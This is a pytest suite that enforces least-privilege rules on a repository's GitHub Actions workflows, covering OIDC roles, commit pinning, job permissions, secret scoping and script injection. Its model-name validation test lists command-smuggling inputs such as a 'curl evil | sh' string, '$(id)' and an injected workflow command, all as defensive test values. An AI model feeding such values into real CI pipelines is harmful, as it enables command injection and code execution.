"""Least privilege in the GitHub Actions workflows (.github/workflows/).

Credentials come only through OIDC, never to forks, and each role only to jobs of a GitHub
environment or of `main`; actions are pinned to commits; each job is granted exactly what its steps
need; secrets are passed by name to the steps that use them; tokens that can push exist only in a
main-only environment; checkouts keep no credentials; and no expression is pasted into a script.
"""

from __future__ import annotations

import os
import re
import subprocess
from typing import Any

import pytest
import yaml

from tests.workflow_files import (
    STACKS,
    WORKFLOW_FILES,
    action_name,
    load,
    main_only_environments,
    operating_section,
    permission_problems,
    pinning_problems,
    role_subjects,
    script_expressions,
    stack_jobs,
    steps,
    triggers,
    uses_lines,
    workflow,
    yaml_uses,
)


# --- credentials: OIDC only, never for forks, roles only behind an environment or `main` ---


def test_no_long_lived_cloud_keys():
    for path in WORKFLOW_FILES:
        text = path.read_text()
        assert "aws-access-key-id" not in text and "AWS_SECRET_ACCESS_KEY" not in text, path.name
        for job_id, step in steps(load(path)):
            if action_name(step.get("uses", "")) == "aws-actions/configure-aws-credentials":
                assert "role-to-assume" in step["with"], f"{path.name}:{job_id}"


def test_pull_request_checks_that_run_for_forks_need_no_credentials():
    pr = workflow("pull-request.yml")
    assert list(triggers(pr)) == ["pull_request"], "pull_request_target would hand fork code the repository's secrets"
    for job_id, job in pr["jobs"].items():
        guarded = "github.event.pull_request.head.repo.full_name == github.repository" in str(job.get("if", ""))
        if guarded:
            continue
        text = yaml.safe_dump(job)
        assert "secrets." not in text and "vars." not in text, job_id
        assert (job.get("permissions") or {}).get("id-token") != "write", job_id
    preview = pr["jobs"]["preview"]
    assert "github.event.pull_request.head.repo.full_name == github.repository" in preview["if"]
    assert preview["permissions"]["pull-requests"] == "write"  # comments the preview


def test_previews_read_and_deploys_write_with_different_roles():
    preview = stack_jobs(workflow("pull-request.yml"), "preview")
    deploy = stack_jobs(workflow("deploy.yml"), "up")
    roles = [jobs[s]["with"]["aws-role-arn"] for jobs in (preview, deploy) for s in STACKS]
    roles.append(promotion_step()["with"]["role-to-assume"])
    assert len(set(roles)) == len(roles), roles


def promotion_step() -> dict[str, Any]:
    job = workflow("promote.yml")["jobs"]["promote"]
    return next(s for s in job["steps"] if action_name(s.get("uses", "")) == "aws-actions/configure-aws-credentials")


def test_every_job_that_assumes_a_role_is_gated_by_an_environment_or_main():
    """The subject in a job's OIDC token is what a role's trust policy can require.

    `pull_request` is the subject of every pull request from any branch of the repository, whatever
    its workflow files say: a role trusting it can be used by anyone who can push a branch.
    """
    for role, subjects in role_subjects().items():
        for subject in subjects:
            assert subject.startswith("environment:") or subject == "ref:refs/heads/main", f"{role}: {subject}"


# --- actions pinned to commits ------------------------------------------------------------


SHA = "3d3c42e5aac5ba805825da76410c181273ba90b1"


@pytest.mark.parametrize("line, pinned", [
    (f"      - uses: actions/checkout@{SHA} # v7.0.1", True),
    (f"      - uses: 'actions/checkout@{SHA}'  # v7.0.1", True),
    ("    uses: ./.github/workflows/pulumi-up.yml", True),
    ("      - uses: actions/checkout@v7", False),
    ("      - uses: actions/checkout@v7.0.1 # v7.0.1", False),
    (f"      - uses: actions/checkout@{SHA[:12]} # v7.0.1", False),
    (f"      - uses: actions/checkout@{SHA}", False),
    (f"      - uses: actions/checkout@{SHA} # v7", False),
    (f"      - uses: actions/checkout@{SHA} # pinned", False),
    ("    uses: acme/shared/.github/workflows/deploy.yml@main", False),
    ("      - uses: docker://alpine:3", False),
])
def test_the_pinning_check_accepts_only_full_shas_with_their_release(line, pinned):
    assert (pinning_problems(line, "x.yml") == []) is pinned


@pytest.mark.parametrize("path", WORKFLOW_FILES, ids=lambda p: p.name)
def test_remote_actions_are_pinned_to_a_full_commit_sha_with_its_release_in_a_comment(path):
    text = path.read_text()
    assert sorted(u.ref for u in uses_lines(text)) == sorted(yaml_uses(load(path))), "a `uses:` the line check cannot see"
    assert pinning_problems(text, path.name) == []


def test_each_action_is_pinned_to_one_commit_and_release_everywhere():
    pins: dict[str, set[tuple[str, str]]] = {}
    for path in WORKFLOW_FILES:
        for uses in uses_lines(path.read_text()):
            name, _, sha = uses.ref.partition("@")
            if not uses.ref.startswith("./"):
                pins.setdefault(name, set()).add((sha, uses.comment))
    assert pins and {name: pin for name, pin in pins.items() if len(pin) > 1} == {}


# --- each job is granted exactly what its steps need --------------------------------------


def _job(permissions: Any = None, job_steps: list | None = None) -> dict[str, Any]:
    job = {"runs-on": "ubuntu-latest", "steps": job_steps or [{"uses": f"actions/checkout@{SHA}"}]}
    return job if permissions is None else {**job, "permissions": permissions}


_CALLED = {"jobs": {"pulumi": _job({"contents": "read", "id-token": "write", "pull-requests": "write"}, [
    {"uses": f"actions/checkout@{SHA}"}, {"uses": f"aws-actions/configure-aws-credentials@{SHA}"},
    {"uses": f"pulumi/actions@{SHA}", "with": {"comment-on-pr": True}}])}}


@pytest.mark.parametrize("top, job, problem", [
    ({}, _job({"contents": "read"}), None),
    ({"contents": "read"}, _job({"contents": "read"}), None),
    (None, _job({"contents": "read"}), "set `permissions:` at the workflow level"),
    ("write-all", _job({"contents": "read"}), "the workflow level grants `write-all`"),
    ({"contents": "write"}, _job({"contents": "read"}), "the workflow level grants"),
    ({}, _job(), "set the job's `permissions:`"),
    ({}, _job({"contents": "read", "pull-requests": "write"}), "grants {'contents': 'read', 'pull-requests': 'write'}, its steps need {'contents': 'read'}"),
    ({}, _job({"contents": "read"}, [{"uses": f"actions/checkout@{SHA}"}, {"uses": f"aws-actions/configure-aws-credentials@{SHA}"}]), "need {'contents': 'read', 'id-token': 'write'}"),
    ({}, {"uses": "./called.yml", "permissions": {"contents": "read", "id-token": "write", "pull-requests": "write"}}, None),
    ({}, {"uses": "./called.yml", "permissions": {"contents": "read", "id-token": "write"}}, "the called job pulumi asks for {'pull-requests': 'write'}"),
], ids=["none-at-top", "read-at-top", "no-top", "write-all", "write-at-top", "no-job-permissions", "more-than-needed",
        "less-than-needed", "caller-grants-what-called-asks", "called-asks-for-more"])
def test_the_permission_check_finds_each_excess(top, job, problem):
    doc = {"jobs": {"j": job}, **({} if top is None else {"permissions": top})}
    problems = permission_problems(doc, "x.yml", load_called=lambda uses: _CALLED)
    if problem is None:
        assert problems == []
    else:
        assert any(problem in p for p in problems), problems


@pytest.mark.parametrize("path", WORKFLOW_FILES, ids=lambda p: p.name)
def test_every_workflow_and_job_is_granted_exactly_what_it_needs(path):
    assert permission_problems(load(path), path.name) == []


# --- secrets by name, tokens that push only in a main-only environment --------------------


def test_no_job_hands_all_its_secrets_to_a_called_workflow():
    """`secrets: inherit` gives the called workflow every repository and environment secret."""
    inheriting = [f"{path.name}:{job_id}" for path in WORKFLOW_FILES for job_id, job in load(path)["jobs"].items()
                  if job.get("secrets") == "inherit"]
    assert inheriting == []


def test_secrets_and_tokens_reach_steps_not_whole_jobs():
    """A secret in a workflow- or job-level `env:` reaches every step, third-party actions included."""
    for path in WORKFLOW_FILES:
        doc = load(path)
        for where, env in [(path.name, doc.get("env", {}))] + [(f"{path.name}:{j}", job.get("env", {})) for j, job in doc["jobs"].items()]:
            text = yaml.safe_dump(env)
            assert "secrets." not in text and "github.token" not in text, f"{where}: pass secrets to the step that uses them"


def pushing_jobs() -> list[tuple[str, dict[str, Any]]]:
    """Jobs holding a token that can push: `contents: write`, or the PROMOTION_TOKEN secret."""
    return [(f"{path.name}:{job_id}", job) for path in WORKFLOW_FILES for job_id, job in load(path)["jobs"].items()
            if (job.get("permissions") or {}).get("contents") == "write" or "secrets.PROMOTION_TOKEN" in yaml.safe_dump(job)]


def test_the_readme_environment_list_is_read_as_written():
    assert {"staging", "production"} <= main_only_environments()
    assert not {"staging-preview", "production-preview"} & main_only_environments()


def test_tokens_that_can_push_exist_only_in_jobs_of_a_main_only_environment():
    """A workflow file edited on a branch and run from there cannot enter an environment limited to
    `main`: it gets neither the environment's secrets nor the OIDC subject of that environment."""
    jobs = pushing_jobs()
    assert [where for where, _ in jobs] == ["promote.yml:promote"]
    for where, job in jobs:
        environment = job.get("environment")
        assert isinstance(environment, str) and "${{" not in environment, f"{where}: run it in a fixed, protected environment"
        assert environment in main_only_environments(), f"{where}: the README must limit `{environment}` to `main`"
        token_row = next(line for line in operating_section().splitlines() if line.startswith("| `PROMOTION_TOKEN` |"))
        assert f"`{environment}`" in token_row, "PROMOTION_TOKEN is a secret of that environment only"


def test_checkouts_keep_no_credentials():
    """With the token left in .git/config, every later step (and any code it runs) could push with it."""
    checkouts = [(f"{path.name}:{job_id}", step) for path in WORKFLOW_FILES for job_id, step in steps(load(path))
                 if action_name(step.get("uses", "")) == "actions/checkout"]
    assert checkouts
    for where, step in checkouts:
        assert step.get("with", {}).get("persist-credentials") is False, f"{where}: persist-credentials: false"


def test_only_the_pull_request_step_is_given_a_token_that_can_push():
    for where, job in pushing_jobs():
        holders = [step for step in job["steps"] if re.search(r"secrets\.|github\.token", yaml.safe_dump(step))]
        assert [action_name(s.get("uses", "")) for s in holders] == ["peter-evans/create-pull-request"], where
        assert holders[0]["with"]["token"] == "${{ secrets.PROMOTION_TOKEN || github.token }}"


# --- no expression pasted into a script ---------------------------------------------------


@pytest.mark.parametrize("script, expressions", [
    ('echo "${{ github.event.pull_request.title }}"', ["github.event.pull_request.title"]),
    ('modelctl promote ${{ inputs.model }} --to prod', ["inputs.model"]),
    ('set -e\ngit switch "${{github.head_ref}}"\necho "${{ steps.x.outputs.y }}"', ["github.head_ref", "steps.x.outputs.y"]),
    ('modelctl check "${{ matrix.stack }}"', ["matrix.stack"]),
    ('modelctl promote "$MODEL" --to prod # ${{ inputs.model }} in a comment is pasted too', ["inputs.model"]),
    ('modelctl promote "$MODEL" --from staging --to prod', []),
])
def test_the_script_check_finds_every_pasted_expression(script, expressions):
    doc = {"jobs": {"j": {"steps": [{"run": script, "env": {"MODEL": "${{ inputs.model }}"}}]}}}
    assert [e for _, e in script_expressions(doc)] == expressions


def test_the_script_check_reads_github_script_too():
    step = {"uses": f"actions/github-script@{SHA}", "with": {"script": "core.info('${{ github.event.issue.title }}')"}}
    assert script_expressions({"jobs": {"j": {"steps": [step]}}}) == [("j:0", "github.event.issue.title")]


@pytest.mark.parametrize("path", WORKFLOW_FILES, ids=lambda p: p.name)
def test_no_expression_is_pasted_into_a_script(path):
    assert script_expressions(load(path)) == []


def model_check_step() -> dict[str, Any]:
    return workflow("promote.yml")["jobs"]["promote"]["steps"][0]


def test_the_model_name_is_checked_against_the_stack_files_grammar_before_anything_else():
    from infra.config import MODEL_NAME

    step = model_check_step()
    assert step["env"] == {"MODEL": "${{ inputs.model }}", "MODEL_NAME": MODEL_NAME}
    assert "$MODEL_NAME" in step["run"] and "exit 1" in step["run"]


@pytest.mark.parametrize("name", [
    "days-to-sell", "a", "a" * 40, "m2", "a" * 41, "Days-to-sell", "-x", "x-", "1x", "x_y", "",
    'x"; curl evil | sh; "', "$(id)", "x\n::add-mask::y", "days-to-sell\n",
])
def test_the_model_name_check_accepts_exactly_model_names(name):
    from infra.config import MODEL_NAME

    step = model_check_step()
    env = {"PATH": os.environ.get("PATH", "/usr/bin:/bin"), "MODEL": name, "MODEL_NAME": step["env"]["MODEL_NAME"]}
    run = subprocess.run(["bash", "--noprofile", "--norc", "-eo", "pipefail", "-c", step["run"]],
                         env=env, capture_output=True, text=True, check=False)
    assert (run.returncode == 0) is (re.fullmatch(MODEL_NAME, name) is not None), run.stdout
    if run.returncode:
        assert "is not a model name" in run.stdout
        commands = [line for line in run.stdout.splitlines() if line.startswith("::")]
        assert len(commands) == 1, f"the name printed as a workflow command: {commands}"
